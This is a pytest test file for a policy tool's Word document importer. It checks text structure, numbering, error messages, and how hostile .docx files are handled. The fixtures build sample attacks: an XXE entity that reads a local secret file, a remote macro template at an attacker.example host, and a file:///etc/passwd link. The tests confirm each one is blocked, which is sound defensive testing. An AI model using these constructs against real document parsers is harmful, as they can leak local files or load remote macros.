"""The Word reader: what it takes from a .docx, and every kind of bad or hostile file."""

from __future__ import annotations

import shutil
from pathlib import Path

import docx
import pytest

from conftest import ROOT
from policygen.cli import main
from policygen.importer.blocks import AutoNumber, Heading, Paragraph, Skipped, Table, Unreadable
from policygen.importer.readers import docx as reader

import word


def _read(path: Path):
    return reader.read(path, path.read_bytes())


def test_blocks_in_body_order_with_word_structure(tmp_path):
    d = docx.Document()
    d.core_properties.title = "Property Title"
    d.add_paragraph("The Title", style="Title")
    d.add_paragraph("Scope", style="Heading 1")
    p = d.add_paragraph("Plain, ")
    p.add_run("bold").bold = True
    p.add_run(" and ")
    p.add_run("italic").italic = True
    p.add_run(" [brackets] * stars")
    outline = d.add_paragraph("Outline-level heading")
    outline._p.get_or_add_pPr().append(word._el("w:outlineLvl", val="1"))
    t = d.add_table(rows=2, cols=3)
    t.rows[0].cells[0].merge(t.rows[0].cells[1]).text = "Merged"
    t.rows[0].cells[2].text = "Head"
    word.header_row(t)
    t.rows[1].cells[0].text = "a"
    d.add_paragraph("item", style="List Bullet")
    source = _read(word.save(d, tmp_path / "s.docx"))
    blocks = source.blocks
    assert source.title == "Property Title"
    assert blocks[0] == Heading(1, "The Title", blocks[0].where, title_style=True)
    assert (blocks[1].level, blocks[1].text) == (1, "Scope")
    assert blocks[2].text == r"Plain, **bold** and *italic* \[brackets\] \* stars"
    assert isinstance(blocks[3], Heading) and blocks[3].level == 2
    assert isinstance(blocks[4], Table)
    first = blocks[4].rows[0]
    assert first.header and [(c.paragraphs, c.colspan) for c in first.cells] == [(("Merged",), 2), (("Head",), 1)]
    assert not blocks[4].rows[1].header
    assert blocks[5].auto is not None and blocks[5].auto.counting == "bullet"
    assert str(blocks[2].where) == "s.docx: paragraph 3"


def test_word_list_numbering_is_read_from_the_numbering_part(tmp_path):
    source = _read(word.auto_numbered_policy(tmp_path / "auto.docx"))
    autos = [b.auto for b in source.blocks if isinstance(b, (Heading, Paragraph))][1:5]
    assert autos == [AutoNumber(0, "decimal", "%1"), AutoNumber(1, "decimal", "%1.%2"),
                     AutoNumber(1, "decimal", "%1.%2"), AutoNumber(2, "lower-roman", "(%3)")]


def test_a_hyperlink_is_a_markdown_link_and_only_to_the_web(tmp_path):
    from docx.opc.constants import RELATIONSHIP_TYPE as RT

    d = docx.Document()
    for text, url in (("NHS", "https://www.nhs.uk/"), ("a file", "file:///etc/passwd")):
        p = d.add_paragraph("See ")
        r_id = d.part.relate_to(url, RT.HYPERLINK, is_external=True)
        link = word._el("w:hyperlink")
        link.set("{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id", r_id)
        run = word._el("w:r")
        t = word._el("w:t")
        t.text = text
        run.append(t)
        link.append(run)
        p._p.append(link)
    texts = [b.text for b in _read(word.save(d, tmp_path / "l.docx")).blocks]
    assert texts == ["See [NHS](https://www.nhs.uk/)", "See a file"]


@pytest.mark.parametrize("make, message", [
    (lambda p: p.write_bytes(b"%PDF-1.7\n..."), "l.docx: this is a PDF, not a Word document; import the Word file it was made from"),
    (lambda p: p.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512), "l.docx: an encrypted (password-protected) Word file or an old .doc; save it unprotected as .docx first"),
    (lambda p: p.write_bytes(b"PK\x03\x04 truncated"), "l.docx: not a readable Word document (corrupt or not a .docx: BadZipFile)"),
    (lambda p: p.write_bytes(b""), "l.docx: the file is empty"),
    (lambda p: p.write_text("just text", encoding="utf-8"), "l.docx: not a Word document (.docx is a zip package; this file is not one)"),
    (lambda p: word.save(docx.Document(), p), "l.docx: the document has no text to import"),
])
def test_bad_files_are_one_line_and_nothing_is_written(tmp_path, capsys, make, message):
    root = tmp_path / "project"
    for name in ("templates", "vocabulary"):
        shutil.copytree(ROOT / name, root / name)
    (root / "organisations").mkdir()
    bad = tmp_path / "l.docx"
    make(bad)
    with pytest.raises(Unreadable) as exc:
        _read(bad)
    assert str(exc.value) == message
    assert main(["--root", str(root), "import", str(bad), "--org", "acme"]) == 1
    out, err = capsys.readouterr()
    assert err == f"{bad}{message.removeprefix('l.docx')}; nothing was written\n" and out == ""  # the file as typed
    assert not any((root / "organisations").iterdir())


def test_a_document_over_the_size_limit_says_the_limit(tmp_path, monkeypatch):
    path = word.typed_policy(tmp_path / "big.docx")
    monkeypatch.setattr(reader, "MAX_BYTES", 1024)
    with pytest.raises(Unreadable, match=r"^big\.docx: \d+ MB is over the 0 MB limit"):
        _read(path)
    assert reader.MAX_BYTES == 1024 and "50 * 1024 * 1024" in Path(reader.__file__).read_text(encoding="utf-8")


def test_entities_are_never_resolved(tmp_path):
    """python-docx's parser (docx.oxml.parser) has resolve_entities=False and lxml's no_network:
    an entity naming a local file (or a URL) stays unexpanded."""
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENTS", encoding="utf-8")
    plain = word.save(docx.Document(), tmp_path / "plain.docx")
    xml = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
           f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "{secret.as_uri()}"><!ENTITY web SYSTEM "http://127.0.0.1:9/x">]>'
           '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
           '<w:p><w:r><w:t>Before &xxe; &web; after</w:t></w:r></w:p></w:body></w:document>').encode()
    hostile = word.replace_part(plain, tmp_path / "xxe.docx", "word/document.xml", xml)
    texts = " ".join(b.text for b in _read(hostile).blocks)
    assert "TOP-SECRET" not in texts and texts.startswith("Before")


def _png() -> bytes:
    """A 1×1 PNG."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\0\0\0\0")) + chunk(b"IEND", b""))


def test_macros_external_links_and_pictures_are_reported_not_opened(tmp_path, capsys):
    d = docx.Document()
    d.add_paragraph("Purpose", style="Heading 1")
    d.add_paragraph("1.1 The words are imported.")
    picture = tmp_path / "dot.png"
    picture.write_bytes(_png())
    d.add_picture(str(picture))
    from docx.oxml import parse_xml

    boxed = d.add_paragraph("Beside a box")
    boxed._p.append(parse_xml(
        '<w:r xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:v="urn:schemas-microsoft-com:vml">'
        '<w:pict><v:shape><v:textbox><w:txbxContent><w:p><w:r><w:t>Boxed words</w:t></w:r></w:p></w:txbxContent>'
        '</v:textbox></v:shape></w:pict></w:r>'))
    base = word.save(d, tmp_path / "base.docx")
    rels = ('<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            'Target="http://attacker.example/t.dotm" TargetMode="External"/>')
    hostile = word.with_parts(base, tmp_path / "m.docx", {"word/vbaProject.bin": b"\0" * 64, "word/embeddings/oleObject1.bin": b"\0"}, rels)
    source = _read(hostile)
    notices = [n.message for n in source.notices]
    assert "the document contains macros (vbaProject); they were ignored, never run" in notices
    assert "an external link (attachedTemplate) to 'http://attacker.example/t.dotm' was not followed" in notices
    assert "the document embeds other files (OLE objects); they were not opened" in notices
    assert [b.what for b in source.blocks if isinstance(b, Skipped)] == [
        "a picture (not imported; add it as a figure with alt text)",
        "a text box (its text is not imported; copy it into the body if it matters)"]

    root = tmp_path / "project"
    for name in ("templates", "vocabulary"):
        shutil.copytree(ROOT / name, root / name)
    code = main(["--root", str(root), "import", str(hostile), "--org", "acme", "--id", "hostile", "--kind", "information-governance"])
    out, _ = capsys.readouterr()
    assert code == 0
    assert "m.docx: the document contains macros (vbaProject); they were ignored, never run" in out
    assert "m.docx: paragraph 3: a picture (not imported; add it as a figure with alt text): it was left out" in out
    text = (root / "organisations/acme/hostile.yaml").read_text(encoding="utf-8")
    assert "# import: check — m.docx: an external link (attachedTemplate)" in text
